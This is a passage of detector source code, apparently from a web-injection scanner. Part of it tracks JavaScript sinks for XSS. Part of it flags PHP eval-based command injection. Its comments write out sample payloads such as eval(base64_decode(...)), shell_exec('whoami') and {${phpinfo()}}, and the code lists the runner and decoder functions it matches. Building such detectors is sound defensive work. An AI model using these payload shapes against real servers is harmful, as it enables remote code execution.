  // (a literal name, window['location'], is xss.ts's: only a computed name goes on; a '$' in a template is its ${)
  else if (s == S_GIDX) {
    if (quote) { next = S_GIDX_S; store<u8>(j + JB_QUOTE, <u8>c); }
    else next = c == 0x5d || c == 0x3b ? 0 : space ? s : S_GIDX_PLUS;
  }
  else if (s == S_GIDX_S) { const q = <u32>load<u8>(j + JB_QUOTE); next = c == q ? S_GIDX : q == 0x60 && c == 0x24 ? S_GIDX_PLUS : s; }
  else if (s == S_GIDX_PLUS) next = c == 0x5d ? S_GIDX_END : c == 0x3b ? 0 : s;
  // (assigned, or a member of it assigned or called, as after location: window['loc'+'ation'].href=  ['href']=  .assign()
  else if (s == S_GIDX_END) next = space ? (weak ? 0 : s) : c == 0x3d ? S_LOC_EQ : c == 0x2e ? S_LOC_DOT : c == 0x5b ? S_LOC_IDX : 0;
  else if (s == S_ASSIGN || s == S_CTOR) next = space ? s : c == 0x28 ? s + 1 : 0;
  else if (s == S_WITH) next = c == 0x28 ? S_WITH_P : 0; // (glued: "with (location) known" is prose's)
  else if (s == S_ASSIGN_P || s == S_CTOR_P || s == S_WITH_P) next = space ? s : 0;
  else if (s == S_OPEN && (c == 0x28 || (c == 0x60 && !weak))) { jsbReport(st, j, end); return; } // open(name,'_self')  print()  print`1`
  else if (s == S_FUNC || s == S_FUNC_SP) next = space ? S_FUNC_SP : s == S_FUNC_SP ? 0 : c == 0x2e ? S_FUNC_DOT : c == 0x29 ? S_FUNC_CLOSE : 0;
  else if (s == S_FUNC_CLOSE && c == 0x28) { jsbReport(st, j, end); return; } // (Function)(code)
  else if (s == S_STORE) {
    if (c == 0x2e || c == 0x5b) { jsbReport(st, j, end); return; } // localStorage.token  sessionStorage['k']
    next = space ? s : 0;
  }
  s32(j, JB_SINK, next);
}

// ---------------------------------------------------------------------------------------------------------------------
// PHP code given to eval() (or a preg /e, create_function, assert): commix's eval-based technique appends a call to the
// value itself, or after a break-out (;  )  .  ${  {${  a line break). cmdi.ts reads a dangerous call written as
// a word of its own (;system('id')  {${exec('id')}}); these are the shapes where the call has no word of its own or
// runs nothing but shows the injection works:
//
//   127.0.0.1eval(base64_decode('…'))  INJECT_HEREpassthru('id')   a PHP function's name glued to the value (the last
//   xshell_exec('whoami')  1system(id)                             word ends with it): runners given a command (quoted,
//                                                                  or bare: PHP before 8 reads a bare name as its string),
//                                                                  eval/assert given a decoder's call or a runner
//   x;phpinfo()  {${phpinfo()}}  1phpinfo()//                      phpinfo() glued to the value or after a break-out
//   {${anyname(…)}}                                                 PHP's complex syntax: the call names the variable, so
//                                                                  any function runs (no template language writes {${)
//   x;print(22+31);  '.print(1+2).'  ${print(3+4)}  xprint(5+6)     the arithmetic probe after a break-out or glued (not
//                                                                  at a line's start: pasted code's print(2+3) line)
//
// print(22+31) alone is not taken: nothing runs but a sum, and it is what tutorials and questions write ("print(2+3)
// gives 5"); after a break-out byte glued to it, or glued to the value, it is the probe. Look-alikes stay clean:
// "the system (see docs)", medieval(…), retrieval('x'), filesystem('ext4') (a runner's tail given no command, an eval's
// tail given no decoder or runner), "run phpinfo() to see" (spaced from what precedes it).
// The name is read from the lexer's copy of the word (its first KW_MAX_WORD bytes: a longer word glued to the call is not read).
// ( ) ; . and a line break ('{' tested apart; the quotes of an argument only matter with a step under way)
const PH_BYTES: u64 = (<u64>1 << 0x28) | (<u64>1 << 0x29) | (<u64>1 << 0x3b) | (<u64>1 << 0x2e) | (<u64>1 << 0x0a);
const PH: u32 = 56;        // step | end << 4 (the end of the byte or word that made the step)
const PH_MARK: u32 = 60;   // steps 1 and up: where a report starts; step 0: end + 1 of the last break-out byte (; ) . { \n)
const PH_RUN: u32 = 1;     // runner( glued: a quote or a command word
const PH_RUN_Q: u32 = 2;   // runner(': a command word
const PH_EVAL: u32 = 3;    // eval( assert( glued to a value: a quote, a decoder or a runner
const PH_INFO: u32 = 4;    // phpinfo(: ')'
const PH_PRINT: u32 = 5;   // print(: a number
const PH_PRINT_N: u32 = 6; // print(22: + - * /
const PH_PRINT_OP: u32 = 7; // print(22+: a number
const PH_PRINT_N2: u32 = 8; // print(22+31: ')'
const PH_CPLX1: u32 = 9;   // '{' (then '$' '{' opens the complex syntax)
const PH_CPLX2: u32 = 10;  // '{$'
const PH_CPLX: u32 = 11;   // '{${': a name
const PH_CPLX_W: u32 = 12; // '{${name': '(' calls it


function phpStep(j: usize, step: u32, end: u32): void { s32(j, PH, step | (end << 4)); }

/** A word while a PHP shape is under way (`flags`: its keyword classes). */
export function phpWord(st: usize, j: usize, flags: u64, word: usize, len: u32, start: u32, end: u32): void {
  const v = g32(j, PH);
  const step = v & 15, adj = (v >> 4) == start;
  s32(j, PH, 0);
  if (!adj || step == 0) return;
  if ((step == PH_RUN || step == PH_RUN_Q) && (flags & K_C_STRONG) != 0) report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end);
  else if (step == PH_EVAL && ((flags & K_C_DEFINE_EXEC) != 0 || decoder(word, len))) report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end);
  else if (step == PH_PRINT && digitsOnly(word, len)) phpStep(j, PH_PRINT_N, end);
  else if (step == PH_PRINT_OP && digitsOnly(word, len)) phpStep(j, PH_PRINT_N2, end);
  else if (step == PH_CPLX) { phpStep(j, PH_CPLX_W, end); s32(j, PH_MARK, start - 3); }
}

/** PHP's decoding functions: their output handed to eval is code the value hides. */
function decoder(w: usize, len: u32): bool {
  return wordIs(w, len, "base64_decode") || wordIs(w, len, "str_rot13") || wordIs(w, len, "gzinflate") || wordIs(w, len, "gzuncompress") ||
    wordIs(w, len, "gzdecode") || wordIs(w, len, "hex2bin") || wordIs(w, len, "convert_uudecode") || wordIs(w, len, "urldecode") ||
    wordIs(w, len, "rawurldecode") || wordIs(w, len, "strrev");
}

/** Punctuation for the PHP shapes: ( ) ; . { and a line break, or any byte while one is under way. */
export function phpPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  const v = g32(j, PH);
  const step = v & 15, adj = (v >> 4) == start;
  let next: u32 = 0;
  if (step != 0 && adj) {
    if (step == PH_RUN && (c == 0x27 || c == 0x22)) next = PH_RUN_Q;
    else if (step == PH_EVAL && (c == 0x27 || c == 0x22)) next = PH_EVAL;
    else if (step == PH_INFO && c == 0x29) { report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end); s32(j, PH, 0); return; }
    else if (step == PH_PRINT_N && (c == 0x2b || c == 0x2d || c == 0x2a || c == 0x2f)) next = PH_PRINT_OP;
    else if (step == PH_PRINT_N2 && c == 0x29) { report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end); s32(j, PH, 0); return; }
    else if (step == PH_CPLX1 && c == 0x24) next = PH_CPLX2;
    else if (step == PH_CPLX2 && c == 0x7b) next = PH_CPLX;
    else if (step == PH_CPLX_W && c == 0x28) { report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end); s32(j, PH, 0); return; }
  }
  if (next != 0) { phpStep(j, next, end); return; }
  s32(j, PH, 0);
  if (c == 0x28) phpCall(st, j, start, end);
  // (a break-out byte: a whole name glued after it counts as one glued to the value)
  if (c == 0x7b) { phpStep(j, PH_CPLX1, end); s32(j, PH_MARK, end + 1); }
  // (not a quote: "type 'phpinfo()' to see" quotes the name, and code needs an operator after a string; a line break is
  // marked in bit 31: a line of its own is where pasted code writes print(2+3), so it counts for phpinfo only)
  else if (c == 0x3b || c == 0x29 || c == 0x2e) s32(j, PH_MARK, end + 1);
  else if (c == 0x0a) s32(j, PH_MARK, (end + 1) | 0x80000000);
}

/** '(' glued to a word: is the word, or its tail, a PHP function that runs code or shows the injection? */
function phpCall(st: usize, j: usize, start: u32, end: u32): void {
  // (the word's length is kept in J_PREV's bits 8 and up, J_LAST_END its end: see ssjsWord)
  const len = g32(j, J_PREV) >> 8;
  if (g32(j, J_LAST_END) != start || len == 0 || len > KW_MAX_WORD) return;
  const w = st + ST_LEX + LX_WORD;
  const ws = start - len;
  // a break-out byte glued before the word (step 0 keeps its end + 1 in PH_MARK)
  const mark = g32(j, PH_MARK);
  const afterBreak = (mark & 0x7fffffff) == ws + 1;
  const afterLine = mark >> 31 != 0;
  let n: u32 = 0, kind: u32 = 0;
  if ((len >= 10 && wordIs(w + len - 10, 10, "shell_exec"))) { n = 10; kind = PH_RUN; }
  else if ((len >= 10 && wordIs(w + len - 10, 10, "pcntl_exec"))) { n = 10; kind = PH_RUN; }
  else if ((len >= 9 && wordIs(w + len - 9, 9, "proc_open"))) { n = 9; kind = PH_RUN; }
  else if ((len >= 8 && wordIs(w + len - 8, 8, "passthru"))) { n = 8; kind = PH_RUN; }
  else if ((len >= 6 && wordIs(w + len - 6, 6, "system"))) { n = 6; kind = PH_RUN; }
  else if ((len >= 5 && wordIs(w + len - 5, 5, "popen"))) { n = 5; kind = PH_RUN; }
  else if ((len >= 4 && wordIs(w + len - 4, 4, "exec"))) { n = 4; kind = PH_RUN; }
  else if ((len >= 4 && wordIs(w + len - 4, 4, "eval"))) { n = 4; kind = PH_EVAL; }
  else if ((len >= 6 && wordIs(w + len - 6, 6, "assert"))) { n = 6; kind = PH_EVAL; }
  else if ((len >= 7 && wordIs(w + len - 7, 7, "phpinfo"))) { n = 7; kind = PH_INFO; }
  else if ((len >= 5 && wordIs(w + len - 5, 5, "print"))) { n = 5; kind = PH_PRINT; }
  if (kind == 0) return;
  // (a whole runner or eval is cmdi.ts's and xss.ts's; phpinfo and print whole only after a break-out byte)
  if (n == len && (kind == PH_RUN || kind == PH_EVAL || !afterBreak || (kind == PH_PRINT && afterLine))) return;
  // (print glued to a lone n r t: an escaped line break or tab before a line of code, "x = 5\nprint(2+3)" in a string literal)
  if (kind == PH_PRINT && len == n + 1 && (load<u8>(w) == 0x6e || load<u8>(w) == 0x72 || load<u8>(w) == 0x74)) return;
  phpStep(j, kind, end);
  s32(j, PH_MARK, start - n);
}
